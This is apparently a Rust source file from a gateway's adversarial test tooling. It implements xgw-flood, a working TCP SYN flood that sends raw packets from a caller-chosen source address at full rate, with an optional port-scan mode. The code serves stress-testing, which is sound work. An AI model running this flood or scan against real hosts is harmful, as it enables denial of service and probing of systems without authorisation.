//! xgw-flood: a TCP SYN flood at the sender's full rate, for the adversarial tests.
//!
//! `xgw-flood SRC DST DPORT SECONDS` sends SYNs from SRC to DST through a raw socket
//! (IP_HDRINCL, the kernel routes them and fills in the IPv4 checksum), each with a new
//! source port and sequence number and valid TCP checksum. DPORT `0` picks a new
//! destination port for every SYN too (a port scan); otherwise every SYN goes to DPORT.
//! Prints `sent=<n> seconds=<s> rate=<pps>`.
#![allow(clippy::expect_used, reason = "test and benchmark tooling: a failed step ends the run with its message")]

use std::net::{Ipv4Addr, SocketAddrV4};
use std::time::{Duration, Instant};

use socket2::{Domain, Protocol, SockAddr, Socket, Type};

/// A 40-byte IPv4 + TCP SYN with checksums (the IPv4 one the kernel fills in).
fn syn(buf: &mut [u8; 40], src: Ipv4Addr, dst: Ipv4Addr, sport: u16, dport: u16, seq: u32) {
    *buf = [0; 40];
    buf[0] = 0x45;
    buf[2..4].copy_from_slice(&40u16.to_be_bytes());
    buf[8] = 64;
    buf[9] = 6;
    buf[12..16].copy_from_slice(&src.octets());
    buf[16..20].copy_from_slice(&dst.octets());
    let t = &mut buf[20..];
    t[0..2].copy_from_slice(&sport.to_be_bytes());
    t[2..4].copy_from_slice(&dport.to_be_bytes());
    t[4..8].copy_from_slice(&seq.to_be_bytes());
    t[12] = 5 << 4;
    t[13] = 0x02;
    t[14..16].copy_from_slice(&64240u16.to_be_bytes());
    // pseudo-header + TCP header, one's complement sum
    let mut sum: u32 = 0;
    for w in src.octets().chunks(2).chain(dst.octets().chunks(2)) {
        sum += u32::from(u16::from_be_bytes([w[0], w[1]]));
    }
    sum += 6 + 20;
    for w in buf[20..].chunks(2) {
        sum += u32::from(u16::from_be_bytes([w[0], w[1]]));
    }
    while sum > 0xffff {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    buf[36..38].copy_from_slice(&(!(sum as u16)).to_be_bytes());
}

fn main() {
    let a: Vec<String> = std::env::args().collect();
    let arg =
        |i: usize, what: &str| a.get(i).unwrap_or_else(|| panic!("usage: xgw-flood SRC DST DPORT SECONDS ({what})"));
    let src: Ipv4Addr = arg(1, "SRC").parse().expect("SRC address");
    let dst: Ipv4Addr = arg(2, "DST").parse().expect("DST address");
    let dport: u16 = arg(3, "DPORT").parse().expect("DPORT");
    let secs: f64 = arg(4, "SECONDS").parse().expect("SECONDS");
    let s = Socket::new(Domain::IPV4, Type::RAW, Some(Protocol::from(libc::IPPROTO_RAW))).expect("raw socket (root)");
    let to = SockAddr::from(SocketAddrV4::new(dst, 0));
    let mut buf = [0u8; 40];
    let (mut x, mut sent, mut failed) = (0x2545_f491u32, 0u64, 0u64);
    let t0 = Instant::now();
    let end = Duration::from_secs_f64(secs);
    while t0.elapsed() < end {
        for _ in 0..256 {
            x ^= x << 13;
            x ^= x >> 17;
            x ^= x << 5;
            let sport = 1024 + (x % 64_000) as u16;
            let dp = if dport == 0 { 1 + (x >> 16) as u16 % 65_000 } else { dport };
            syn(&mut buf, src, dst, sport, dp, x);
            match s.send_to(&buf, &to) {
                Ok(_) => sent += 1,
                Err(_) => failed += 1,
            }
        }
    }
    let took = t0.elapsed().as_secs_f64();
    println!("sent={sent} seconds={took:.2} rate={:.0} send_errors={failed}", sent as f64 / took);
}
